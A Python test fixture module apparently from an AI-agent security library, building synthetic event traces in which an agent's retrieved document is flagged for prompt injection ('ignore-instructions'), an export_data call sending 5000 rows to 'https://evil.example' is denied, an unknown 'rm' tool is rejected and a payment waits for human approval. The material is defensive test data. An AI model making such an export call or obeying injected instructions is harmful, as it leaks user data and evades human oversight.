"""Hand-made events for tests of forensics and of the commands that show it."""

from __future__ import annotations

from collections.abc import Mapping
from datetime import UTC, datetime, timedelta
from typing import TypeVar

from aisecops_langchain.canonical import JsonValue, digest_text
from aisecops_langchain.domain.decision import Decision, Effect, Reason, Stage
from aisecops_langchain.domain.events import (
    AnyEvent,
    ApprovalGranted,
    ApprovalRequested,
    CapabilityAllowed,
    CapabilityBlocked,
    ContentSanitized,
    DecisionMade,
    Event,
    ExecutionCompleted,
    ExecutionStarted,
    FindingRecord,
    ModelFinished,
    ModelStarted,
    OutputAllowed,
    PermitIssued,
    PlanCreated,
    PlanRejected,
    PromptAllowed,
    RecordedCall,
    RecordedStep,
    RetrievalFinished,
    RetrievalStarted,
    RunFinished,
    RunPaused,
    RunResumed,
    RunStarted,
    ToolFinished,
    ToolStarted,
)
from aisecops_langchain.domain.labels import UNLABELLED, Label, Source, SourceKind, label_for
from aisecops_langchain.domain.plan import CanonicalCall, RejectedCall
from aisecops_langchain.domain.principal import Approver, Principal

E = TypeVar("E", bound=Event)

START = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
POLICY = digest_text("policy", "a bundle")
PRINCIPAL = Principal(agent="procurement", user="alice", tenant="acme")
PLAN = "plan-1"


class Story:
    """Collects the events of one trace; every event comes ten milliseconds after the one before."""

    def __init__(self, trace: str = "trace-1", *, step_ms: int = 10) -> None:
        self.trace = trace
        self.events: list[AnyEvent] = []
        self._step = timedelta(milliseconds=step_ms)
        self._now = START

    def wait(self, **amount: float) -> None:
        self._now += timedelta(**amount)

    def add(self, kind: type[E], *, parents: tuple[str, ...] = (), **fields: object) -> E:
        number = len(self.events)
        facts: dict[str, object] = {
            "id": f"{self.trace}-{number:03d}",
            "time": self._now,
            "trace": self.trace,
            "thread": "thread-1",
            "parents": parents,
            "principal": PRINCIPAL,
            "policy": POLICY,
            **fields,
        }
        event = kind.model_validate(facts)
        self.events.append(event)  # type: ignore[arg-type]
        self._now += self._step
        return event

    def last(self) -> tuple[str, ...]:
        return (self.events[-1].id,) if self.events else ()


def recorded(tool: str, call_id: str, arguments: Mapping[str, JsonValue]) -> RecordedCall:
    """A call recorded whole, with its true digest."""
    call = CanonicalCall.of(tool, dict(arguments))
    return RecordedCall(call_id=call_id, tool=tool, digest=call.digest, arguments=dict(arguments), complete=True)


def about(call: RecordedCall, plan: str = PLAN) -> dict[str, object]:
    return {"plan": plan, "call_id": call.call_id, "tool": call.tool, "call": call.digest}


def untrusted(name: str = "supplier.md") -> dict[str, object]:
    source = Source(kind=SourceKind.RETRIEVAL_CHUNK, name=name, digest=digest_text("content", name))
    return {"source": source, "label": label_for(source), "size": 812}


def prompt() -> dict[str, object]:
    source = Source(kind=SourceKind.USER_PROMPT, name="alice", digest=digest_text("content", "prompt"))
    return {"source": source, "label": label_for(source), "size": 40}


def planned(story: Story, *calls: RecordedCall) -> PlanCreated:
    steps = tuple(RecordedStep(call=call, tool_definition="sha256:tool") for call in calls)
    return story.add(PlanCreated, plan=PLAN, plan_digest="sha256:plan", steps=steps, context=UNLABELLED)


def decided(
    story: Story, call: RecordedCall, effect: Effect, message: str = "rule says so", **fields: object
) -> DecisionMade:
    made: dict[str, object] = {"effect": effect, "stage": Stage.RULES, "policy": POLICY, "rules": ("rule-1",)}
    reasons = (Reason(code="rule", message=message, rule="rule-1"),)
    decision = Decision.model_validate({**made, "reasons": reasons, **fields})
    environment: dict[str, JsonValue] = {}
    return story.add(
        DecisionMade,
        plan=PLAN,
        call=call,
        decision=decision,
        context=UNLABELLED,
        argument_labels={},
        environment=environment,
    )


def asked(story: Story, call: RecordedCall, key: str = "approval-1") -> ApprovalRequested:
    expires = START + timedelta(days=1)
    return story.add(ApprovalRequested, **about(call), approval=key, expires_at=expires)


def permitted(story: Story, call: RecordedCall, permit: str = "permit-1", approval: str | None = None) -> PermitIssued:
    expires = START + timedelta(hours=1)
    facts: dict[str, object] = {"permit": permit, "tool_definition": "sha256:tool", "expires_at": expires}
    return story.add(PermitIssued, **about(call), **facts, approval=approval)


def started(
    story: Story, call: RecordedCall, permit: str = "permit-1", *, idempotent: bool = False
) -> ExecutionStarted:
    return story.add(ExecutionStarted, **about(call), permit=permit, idempotent=idempotent)


def completed(story: Story, call: RecordedCall, permit: str = "permit-1") -> ExecutionCompleted:
    label: Label = UNLABELLED
    return story.add(ExecutionCompleted, **about(call), permit=permit, result_digest="sha256:result", label=label)


def allowed_story(trace: str = "trace-1") -> Story:
    """The shortest lawful run that has an effect."""
    story = Story(trace)
    call = recorded("lookup", "call-1", {"supplier": "ACME"})
    story.add(RunStarted, tools=("lookup",))
    planned(story, call)
    decided(story, call, Effect.ALLOW)
    permitted(story, call)
    started(story, call)
    completed(story, call)
    story.add(RunFinished, outcome="completed")
    return story


def governed_story(trace: str = "trace-1") -> Story:
    """A lawful run with a poisoned document, a denied call, a malformed one, and one that a person approved."""
    story = Story(trace)
    pay = recorded("pay_invoice", "call-1", {"supplier": "ACME", "amount": 950})
    export = recorded("export_data", "call-2", {"to": "https://evil.example", "rows": 5000})
    story.add(RunStarted, tools=("pay_invoice", "export_data"))
    story.add(PromptAllowed, parents=story.last(), **prompt())
    story.add(RetrievalStarted, run="r1", name="bm25", node="retrieve", input_digest="sha256:q")
    finding = FindingRecord(rule="ignore-instructions", category="prompt_injection", severity="high", start=4, end=60)
    sanitized: dict[str, object] = {"clean_digest": "sha256:clean", "actions": ("quarantined",)}
    story.add(ContentSanitized, parents=story.last(), findings=(finding,), **sanitized, **untrusted())
    story.add(RetrievalFinished, run="r1", name="bm25", documents=3, output_digest="sha256:d")
    story.add(ModelStarted, run="m1", name="gpt-x", node="plan", messages=4, input_digest="sha256:i")
    story.add(ModelFinished, run="m1", name="gpt-x", output_digest="sha256:o", tool_calls=3, input_tokens=210)
    plan = planned(story, pay, export)
    unknown = RejectedCall(call_id="call-3", tool="rm", code="unknown_tool", message="the agent has no such tool")
    story.add(PlanRejected, plan=PLAN, rejected=(unknown,))
    why = (Reason(code="capability", message="no capability grants export_data"),)
    story.add(CapabilityBlocked, parents=(plan.id,), **about(export), reasons=why)
    decided(story, export, Effect.DENY, reasons=why, stage=Stage.CAPABILITY, rules=())
    story.add(CapabilityAllowed, parents=(plan.id,), **about(pay), capability="payments")
    decided(story, pay, Effect.REQUIRE_APPROVAL, "payments need a person")
    asked(story, pay)
    story.add(RunPaused, parents=story.last(), waiting_for="approval-1")
    story.wait(minutes=2)
    story.add(ApprovalGranted, **about(pay), approval="approval-1", approver=Approver(id="bob", verified=True))
    story.add(RunResumed, parents=story.last(), answered="approval-1")
    permitted(story, pay, approval="approval-1")
    started(story, pay)
    story.add(ToolStarted, run="t1", name="pay_invoice", node="execute", input_digest="sha256:a")
    story.add(ToolFinished, run="t1", name="pay_invoice", output_digest="sha256:r")
    completed(story, pay)
    story.add(OutputAllowed, **prompt())
    story.add(RunFinished, outcome="completed")
    return story
